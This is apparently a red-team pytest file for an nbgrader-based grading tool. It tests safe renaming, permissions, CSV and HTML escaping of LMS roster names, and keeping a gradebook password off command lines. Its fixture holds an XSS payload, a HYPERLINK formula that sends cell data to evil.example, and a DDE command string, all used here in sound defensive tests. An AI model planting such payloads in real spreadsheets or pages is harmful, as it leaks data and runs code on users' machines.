"""Red team, 2026-12-05 (twenty-second, host side): the twenty-first host pass's left-open items, run.

- ``notebook_intake.set_aside`` onto a name an earlier grading had set aside (ENOTEMPTY, or an earlier entry silently
  replaced);
- ``collect --update`` after ``zip_collect``: an exchange hand-in replaces an LMS upload of the same id (the exchange
  account is checked by the machine, so it wins), but the upload was deleted without a line;
- ``course_root.close_folders`` left any folder holding a file named ``pyvenv.cfg`` open, a student's collected or
  autograded folder too (a student names their own files)."""
import logging
import os
import stat

import pytest

from tests.test_exchange_owner import A, _collect, _submission

def test_a_folder_set_aside_onto_one_of_an_earlier_grading_never_stops_the_students_grading(tmp_path):
    """A regrade after ``collect --update`` meets a second entry whose safe name is the first's (``x\\x01`` then
    ``x\\x02``: both ``001-x_``): the rename into ``gradebook/rejected/<s>/<a>/`` failed with ENOTEMPTY (a folder onto
    a folder of the earlier grading) and that student's grading stopped; a file onto a file replaced what the
    earlier grading had kept. Each entry set aside now gets a name of its own; the earlier one stays."""
    from course.grading.intake import safe_files
    log = logging.getLogger("rt22h")
    src, rejected = tmp_path / "submitted" / "daemon" / A, tmp_path / "rejected" / "daemon" / A
    src.mkdir(parents=True)
    for n, name in enumerate(("x\x01", "x\x02", "x\x03")):
        (src / name).mkdir()
        (src / name / "f").write_text(f"grading {n}")
        (src / ("y" + chr(n + 1))).write_text(f"file of grading {n}")
        try:
            lines = safe_files.intake(str(src), str(rejected), {}, log, who="daemon")
        except OSError as exc:
            pytest.fail(f"grading {n + 1}: setting aside {name!r} into {rejected} raised {exc!r} (expected: it is set "
                        "aside under a name of its own, one line, and the student's grading goes on)")
        assert len(lines) == 2 and all("was set aside (its name has control characters)" in x for x in lines), lines
    kept = sorted(p.read_text() for p in rejected.rglob("*") if p.is_file())
    assert kept == sorted([f"grading {n}" for n in range(3)] + [f"file of grading {n}" for n in range(3)]), \
        f"what three gradings set aside, expected all six entries kept in {rejected}, found {kept}"
    assert sorted(os.listdir(src)) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root: makes folders owned by another account")
def test_collect_update_over_an_lms_upload_of_the_same_id_keeps_the_upload_and_says_so(tmp_path):
    """An LMS upload that zip_collect put in ``submitted/daemon/<a>/`` (no submission_secret.txt: zip_collect takes
    notebooks only), then a hand-in of account ``daemon`` through the exchange, then the README's
    ``collect --update``: the exchange's hand-in replaces the upload (an account is checked by the machine, an LMS's
    display name is not), but the upload was deleted with no line for the instructor. It is now moved to
    ``gradebook/rejected/daemon/<a>/`` with one line that is nobody's (the report lists it)."""
    import json
    from course.grading.records import lms_incidents
    exchange, root = tmp_path / "exchange", tmp_path / "course"
    inbound = exchange / "advanced-pytorch-internals" / "inbound"
    lms = root / "gradebook" / "submitted" / "daemon" / A
    lms.mkdir(parents=True)
    (lms / "answer.ipynb").write_text("an LMS upload under the id daemon")
    (lms / "timestamp.txt").write_text("2026-11-20 09:00:00.000000 UTC")
    _submission(inbound, "daemon", "2026-11-20 10:00:00.000000 UTC", "daemon", "daemon's exchange hand-in")
    r = _collect(exchange, root, tmp_path, "--update")
    assert r.returncode == 0, r.stderr[-3000:]
    assert (lms / "answer.ipynb").read_text() == "daemon's exchange hand-in", r.stderr[-2000:]
    kept = [p for p in (root / "gradebook" / "rejected" / "daemon" / A).rglob("answer.ipynb")] \
        if (root / "gradebook" / "rejected").exists() else []
    assert [p.read_text() for p in kept] == ["an LMS upload under the id daemon"], \
        f"collect --update replaced an LMS upload under 'daemon' by daemon's exchange hand-in: expected the upload " \
        f"kept in gradebook/rejected/daemon/{A}/, found {kept}"
    path = lms_incidents.path(root, A, "collect")
    rows = [json.loads(x) for x in path.read_text().splitlines()] if path.exists() else []
    said = [x for x in rows if "LMS upload" in x["message"]]
    assert len(said) == 1 and said[0]["student"] == "" and "'daemon'" in said[0]["message"], \
        f"expected one line, nobody's, naming 'daemon' and the LMS upload collect replaced; collect's lines: {rows}"
    r = _collect(exchange, root, tmp_path, "--update")  # nothing newer: nothing moved again
    assert r.returncode == 0 and len(list((root / "gradebook" / "rejected" / "daemon" / A).iterdir())) == 1


def test_a_planted_pyvenv_cfg_keeps_no_grading_folder_open(tmp_path):
    """``close_folders`` leaves a virtual environment (a folder holding ``pyvenv.cfg``) open and unentered. A
    student names their own files: a ``pyvenv.cfg`` in a hand-in is collected into ``gradebook/submitted/<s>/<a>/``,
    copied by autograde into ``autograded/<s>/<a>/``, and the folder (and any folder under it) stayed as nbgrader
    made it (0777 for stock collect). Under the course's grading folders a ``pyvenv.cfg`` no longer keeps a folder
    open; the course's own venv still is left as it is."""
    from course.grading.class_run import course_root
    root = tmp_path / "course"
    planted = [root / "gradebook" / "submitted" / "daemon" / A, root / "autograded" / "daemon" / A,
               root / "gradebook" / "submitted" / "bin" / A / "deeper"]
    for d in planted:
        d.mkdir(parents=True)
        (d / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (d / "inner").mkdir()
    venv = root / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    for d in [p for p in root.rglob("*") if p.is_dir()] + [root]:
        os.chmod(d, 0o777)
    course_root.make_private(str(root))
    still = {str(p.relative_to(root)): f"{stat.S_IMODE(p.stat().st_mode):04o}" for p in root.rglob("*")
             if p.is_dir() and p.stat().st_mode & 0o077 and ".venv" not in p.parts}
    assert not still, f"folders left open to the class after make_private, with a student's pyvenv.cfg in them: {still}"
    assert stat.S_IMODE(venv.stat().st_mode) == 0o777, "the course's venv is left as it is"


HOSTILE = {"first_name": '<img src=x onerror="alert(1)">Bob, "the"', "last_name": '=HYPERLINK("http://evil.example/?"&A2,"open")',
           "email": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _gradebook_with_a_hostile_roster(tmp_path, monkeypatch):
    """A gradebook whose student names came from the LMS's roster (``nbgrader db student import``, nbgrader's own
    command: an LMS display name is the student's to edit)."""
    import sys
    from nbgrader.api import Gradebook
    monkeypatch.setenv("PATH", os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"])  # alembic
    db = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(db) as gb:
        gb.add_assignment(A)
        gb.add_student("mallory", **HOSTILE)
        gb.add_student("alice", first_name="Alice", last_name="Liddell")
        gb.add_submission(A, "alice")
    return db


def test_export_writes_each_name_in_its_own_column_and_no_formula(tmp_path, monkeypatch):
    """nbgrader's export writes its CSV with ``",".join`` and ``str.format``: a name holding a comma moved every
    later column (the course's status column reads the row back: mallory's first name read ``open)``, her
    status and scores other columns' text), and a name starting with ``=``, ``+``, ``-`` or ``@`` is a formula in the spreadsheet the
    instructor opens it in (a link that sends the sheet's cells away, DDE). Every field is now quoted as CSV
    quotes, and a text field starting with one of those characters is prefixed with ``'``."""
    import csv
    from nbgrader.api import Gradebook
    from course.grading.report.grades_csv import CsvWithStatus
    db = _gradebook_with_a_hostile_roster(tmp_path, monkeypatch)
    dest = tmp_path / "grades.csv"
    with Gradebook(db) as gb:
        try:
            CsvWithStatus(to=str(dest)).export(gb)
        except Exception as exc:
            pytest.fail(f"nbgrader export with the LMS roster's names {HOSTILE} raised {exc!r} (expected: the class's "
                        "grades.csv, one row a student)")
    rows = {r["student_id"]: r for r in csv.DictReader(dest.open(newline=""))}
    assert sorted(rows) == ["alice", "mallory"], rows
    m = rows["mallory"]
    assert None not in m and m["status"] == "not submitted" and m["score"] == "", \
        f"a name with a comma moved mallory's columns: {m}"
    for key, value in HOSTILE.items():
        expected = "'" + value if value[0] in "=+-@" else value
        assert m[key] == expected, f"{key}: expected {expected!r} (a formula made text), got {m[key]!r}"
    assert rows["alice"]["first_name"] == "Alice" and rows["alice"]["status"] == "graded", rows["alice"]


def test_a_students_name_is_text_in_the_formgraders_page(tmp_path, monkeypatch):
    """The formgrader's submission page (nbconvert's HTML with nbgrader's ``formgrade`` template) prints ``resources.last_name``,
    ``resources.first_name`` and ``resources.student`` with no escaping, in the instructor's Jupyter server's origin
    (its token, as root in the README): a name from the LMS roster ran script there. They are now escaped with the
    course's settings. (``formgrade_404.tpl`` prints them too, but imports a macro file nbgrader does not ship: it
    never renders.)"""
    import nbgrader
    from nbconvert import HTMLExporter
    from nbformat.v4 import new_markdown_cell, new_notebook
    from traitlets.config import Config
    from course.grading import config
    c = Config()
    config.html_sanitizing(c)
    formgrader = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    c.HTMLExporter.template_name = "formgrade"
    c.HTMLExporter.extra_template_basedirs = [os.path.join(formgrader, "templates")]
    resources = {"assignment_id": A, "notebook_id": "n", "submission_id": "1", "index": 0, "total": 1,
                 "base_url": "", "student": "mallory", "last_name": HOSTILE["last_name"],
                 "first_name": HOSTILE["first_name"], "notebook_path": "autograded/mallory/a/n.ipynb"}
    page, _ = HTMLExporter(config=c).from_notebook_node(new_notebook(cells=[new_markdown_cell("hi")]),
                                                        resources=dict(resources))
    assert not _onerror(page), \
        f"the formgrader's page holds the student's name as HTML: elements {_onerror(page)} (expected it as text)"
    assert '&lt;img src=x onerror="alert(1)"&gt;Bob, "the"' in page, "the name is shown, as text"


def _onerror(page: str) -> list:
    """The elements of ``page`` with an ``onerror`` handler (nbgrader's templates have none)."""
    from html.parser import HTMLParser
    found = []

    class Scan(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if any(k == "onerror" for k, _ in attrs):
                found.append((tag, attrs))
    Scan().feed(page)
    return found


SECRET_URL = "postgresql+psycopg2://grader:s3cret-pw@db:5432/gradebook"


def test_the_gradebooks_password_is_on_no_command_line_of_a_slurm_task(tmp_path, capsys):
    """``cluster submit --db postgresql+psycopg2://grader:<password>@db/gradebook`` wrote the URL into both batch
    scripts as an argument of the pipeline (0700 files, but the commands they run are read by every account on each
    node in ``/proc/<pid>/cmdline`` or ``ps``, for the hours a task grades, on nodes that students' jobs share;
    ``hidepid`` is the administrator's): with it a student connects to the gradebook and writes any grade. The
    scripts now export it (``PGPASSWORD``, which libpq reads, in a process environment only its account reads) and
    the commands carry the URL without it."""
    from course.grading.class_run import cluster
    rc = cluster.main(["submit", "--root", str(tmp_path), "--tasks", "2", "--db", SECRET_URL, "--assignment", A,
                       "--dry-run"])
    assert rc == 0
    for name in ("grade.sbatch", "close.sbatch"):
        path = tmp_path / "gradebook" / "cluster" / name
        script = path.read_text().splitlines()
        runs = [x for x in script if "course.grading.pipeline" in x]
        assert len(runs) == 1 and "--db postgresql+psycopg2://grader@db:5432/gradebook" in runs[0], runs
        leaks = [x for x in script if "s3cret-pw" in x and not x.startswith("export PGPASSWORD=")]
        assert not leaks, f"{name}: the gradebook's password is an argument of a command every account on the node " \
                          f"reads in /proc (expected it only in an `export PGPASSWORD=` line): {leaks}"
        assert "export PGPASSWORD=s3cret-pw" in script and stat.S_IMODE(path.stat().st_mode) == 0o700
    assert "password was on this command line" in capsys.readouterr().out


def test_the_pipeline_passes_the_gradebooks_password_to_no_command_line(tmp_path, monkeypatch, capsys):
    """The same for ``python -m course.grading.pipeline --db <URL with a password>``: the pipeline passed the URL
    whole to every nbgrader command (``--CourseDirectory.db_url``: their command lines where the runner is off, the
    runner's requests otherwise). The commands it starts now get the URL without the password, which they read from
    ``PGPASSWORD``; one line says to keep it in ~/.pgpass (the pipeline's own command line is the instructor's)."""
    from course.grading.class_run import pipeline, stopping
    got = {}
    monkeypatch.delenv("PGPASSWORD", raising=False)
    monkeypatch.setattr(stopping, "install", lambda: None)
    monkeypatch.setattr(pipeline, "run", lambda root, *a, **kw: got.update(db=kw["db"],
                                                                           env=os.environ.get("PGPASSWORD")) or 0)
    (tmp_path / "course").mkdir(mode=0o700)
    assert pipeline.main(["--root", str(tmp_path / "course"), "--no-examples", "--steps", "export",
                          "--db", SECRET_URL]) == 0
    assert got["db"] == "postgresql+psycopg2://grader@db:5432/gradebook", \
        f"the pipeline hands its commands the gradebook URL {got['db']!r} (expected it without the password)"
    assert got["env"] == "s3cret-pw"
    assert "password was on this command line" in capsys.readouterr().out
